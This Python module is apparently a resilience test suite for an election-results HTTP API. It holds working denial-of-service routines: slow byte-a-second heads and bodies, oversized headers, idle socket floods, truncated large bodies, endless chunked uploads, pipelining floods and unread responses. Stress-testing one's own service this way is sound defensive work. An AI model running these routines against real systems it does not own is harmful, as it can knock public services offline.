"""Attacks on HTTP itself: heads and bodies that do not end, answers that are not read, too many of anything."""

from __future__ import annotations

import asyncio
import socket
from contextlib import suppress

from attack.target import Attack, Target, Wire, ask_on

BATCH = b"POST /v1/submissions:batch HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n"
BATCH_BYTES = 16 * 1024 * 1024
GET = b"GET %b HTTP/1.1\r\nHost: x\r\n\r\n"
LIVE = b"/v1/live?office=president"


# -- heads -----------------------------------------------------------------------------------------------------------


async def head_without_end(target: Target) -> str:
    """One request with a head of 200 MB."""

    async def once(wire: Wire) -> None:
        await wire.send(b"GET /livez HTTP/1.1\r\nHost: x\r\n")
        for number in range(50):
            await wire.send(b"".join(b"x-%d-%d: %b\r\n" % (number, n, b"y" * 4_000) for n in range(1_000)))
        await wire.until_closed()

    return f"{await target.at_once(4, once)} of 4 ended"


async def one_header_line_without_end(target: Target) -> str:
    """64 connections with a header line of 1 MB each, and then silence."""

    async def once(wire: Wire) -> None:
        await wire.send(b"GET /livez HTTP/1.1\r\nx: " + b"y" * 1_000_000)
        await wire.until_closed()

    return f"{await target.at_once(64, once)} of 64 ended"


async def slow_heads(target: Target) -> str:
    """1,000 heads that come a byte a second."""

    async def once(wire: Wire) -> None:
        for byte in b"GET /livez HTTP/1.1\r\nHost: " + b"x" * 500:
            await wire.send(bytes([byte]))
            await asyncio.sleep(1)

    return f"{await target.at_once(1_000, once)} of 1000 ended"


async def silent_sockets(target: Target) -> str:
    """3,000 connections that send nothing."""

    async def once(wire: Wire) -> None:
        await wire.until_closed()

    return f"{await target.at_once(3_000, once)} of 3000 ended"


async def long_addresses(target: Target) -> str:
    """Requests with 8,000 bytes of query, one after the other on 8 connections."""
    return await ask_on(target, 8, GET % (b"/v1/areas/N?office=" + b"a" * 8_000))


async def many_query_parameters(target: Target) -> str:
    """Requests with 2,000 query parameters."""
    return await ask_on(target, 8, GET % (b"/livez?" + b"&".join(b"a%d" % n for n in range(1_200))))


# -- bodies ----------------------------------------------------------------------------------------------------------


async def bodies_one_byte_short(target: Target) -> str:
    """Batches of the largest size, each without its last byte: what is held for them is held for nobody else."""

    async def once(wire: Wire) -> None:
        await wire.send(BATCH % BATCH_BYTES + b"x" * (BATCH_BYTES - 1))
        await wire.until_closed()

    return f"{await target.at_once(16, once)} of 16 ended"


async def slow_bodies(target: Target) -> str:
    """500 submissions whose bodies come a byte a second."""

    async def once(wire: Wire) -> None:
        await wire.send(b"POST /v1/submissions HTTP/1.1\r\nHost: x\r\nContent-Length: 5000\r\n\r\n")
        while True:
            await wire.send(b"x")
            await asyncio.sleep(1)

    return f"{await target.at_once(500, once)} of 500 ended"


async def chunks_of_one_byte(target: Target) -> str:
    """Batches in chunks of one byte, each with an extension."""
    chunks = b"1;a=b\r\nx\r\n" * 20_000

    async def once(wire: Wire) -> None:
        await wire.send(b"POST /v1/submissions:batch HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
        while True:
            await wire.send(chunks)

    return f"{await target.over_and_over(8, once)} connections"


async def bodies_after_the_refusal(target: Target) -> str:
    """Bodies of 1 GB to where none is wanted, sent on after the refusal."""

    async def once(wire: Wire) -> None:
        await wire.send(b"POST /livez HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000000\r\n\r\n")
        for _ in range(1_000):
            await wire.send(b"x" * 1_000_000)

    return f"{await target.over_and_over(4, once)} connections"


async def expectations(target: Target) -> str:
    """500 that expect 100-continue and then send nothing."""

    async def once(wire: Wire) -> None:
        head = b"POST /v1/submissions HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\nContent-Length: 5000\r\n\r\n"
        await wire.send(head)
        await wire.until_closed()

    return f"{await target.at_once(500, once)} of 500 ended"


# -- requests --------------------------------------------------------------------------------------------------------


async def pipelined_thousands(target: Target) -> str:
    """5,000 requests in one write, on new connections over and over."""

    async def once(wire: Wire) -> None:
        await wire.send(GET % b"/livez" * 5_000)
        await wire.until_closed()

    return f"{await target.over_and_over(8, once)} connections"


async def many_404(target: Target) -> str:
    """What is not there, as fast as it is answered, on 32 connections."""
    return await ask_on(target, 32, GET % b"/v1/areas/nowhere")


async def many_reads(target: Target) -> str:
    """The nation's snapshot, as fast as it is answered, on 64 connections."""
    return await ask_on(target, 64, GET % b"/v1/offices/president")


async def not_http(target: Target) -> str:
    """Bytes that are not HTTP, on new connections over and over."""

    async def once(wire: Wire) -> None:
        await wire.send(b"\x16\x03\x01" + b"\0" * 500)
        await wire.until_closed()

    return f"{await target.over_and_over(16, once)} connections"


async def http_1_0(target: Target) -> str:
    """Requests of HTTP/1.0, each on a connection of its own."""

    async def once(wire: Wire) -> None:
        await wire.send(b"GET /livez HTTP/1.0\r\n\r\n")
        await wire.until_closed()

    return f"{await target.over_and_over(32, once)} connections"


async def connection_flood(target: Target) -> str:
    """Connections made and dropped, as fast as it goes."""

    async def once(wire: Wire) -> None:
        await asyncio.sleep(0)

    return f"{await target.over_and_over(32, once)} connections"


async def conditions(target: Target) -> str:
    """Conditional and range requests with thousands of parts."""
    tags = b", ".join(b'"%d"' % n for n in range(1_500))
    ranges = b",".join(b"%d-%d" % (n, n) for n in range(1_500))
    head = b"GET /v1/offices/president HTTP/1.1\r\nHost: x\r\nIf-None-Match: %b\r\nRange: bytes=%b\r\n\r\n" % (
        tags,
        ranges,
    )
    return await ask_on(target, 16, head[:15_000] + b"\r\n\r\n" if len(head) > 15_000 else head)


# -- answers ---------------------------------------------------------------------------------------------------------


async def answers_not_read(target: Target) -> str:
    """500 connections that ask for snapshots again and again and read nothing, with the smallest window."""
    with_little = await _small_windows(target, 500)
    asked = 0
    try:
        while not target.is_over:
            for raw in with_little:
                with suppress(BlockingIOError, OSError):
                    raw.send(GET % b"/v1/election" * 4)
                    asked += 1
            await asyncio.sleep(0.5)
    finally:
        for raw in with_little:
            raw.close()
    return f"asked {asked} times on {len(with_little)} connections"


async def streams_behind_streams(target: Target) -> str:
    """Two event streams on one connection, and then the end."""

    async def once(wire: Wire) -> None:
        await wire.send(GET % LIVE * 2)
        await asyncio.sleep(0.05)

    return f"{await target.over_and_over(32, once)} connections"


async def handshakes_half_done(target: Target) -> str:
    """500 WebSocket handshakes that stop, and others that no library can read."""

    async def once(wire: Wire) -> None:
        await wire.send(b"GET /v1/live HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n")
        await asyncio.sleep(1)
        await wire.send(b"x: " + b"y" * 9_000 + b"\r\n\r\n")
        await wire.until_closed()

    return f"{await target.at_once(500, once)} of 500 ended"


async def _small_windows(target: Target, count: int) -> list[socket.socket]:
    loop = asyncio.get_running_loop()
    opened = []
    for _ in range(count):
        raw = socket.socket()
        raw.setblocking(False)
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2_048)
        raw.bind((target.source, 0))
        try:
            async with asyncio.timeout(1):
                await loop.sock_connect(raw, (target.host, target.port))
            opened.append(raw)
        except (OSError, TimeoutError):
            raw.close()
    return opened


HTTP_ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        head_without_end,
        one_header_line_without_end,
        slow_heads,
        silent_sockets,
        long_addresses,
        many_query_parameters,
        bodies_one_byte_short,
        slow_bodies,
        chunks_of_one_byte,
        bodies_after_the_refusal,
        expectations,
        pipelined_thousands,
        many_404,
        many_reads,
        not_http,
        http_1_0,
        connection_flood,
        conditions,
        answers_not_read,
        streams_behind_streams,
        handshakes_half_done,
    )
}
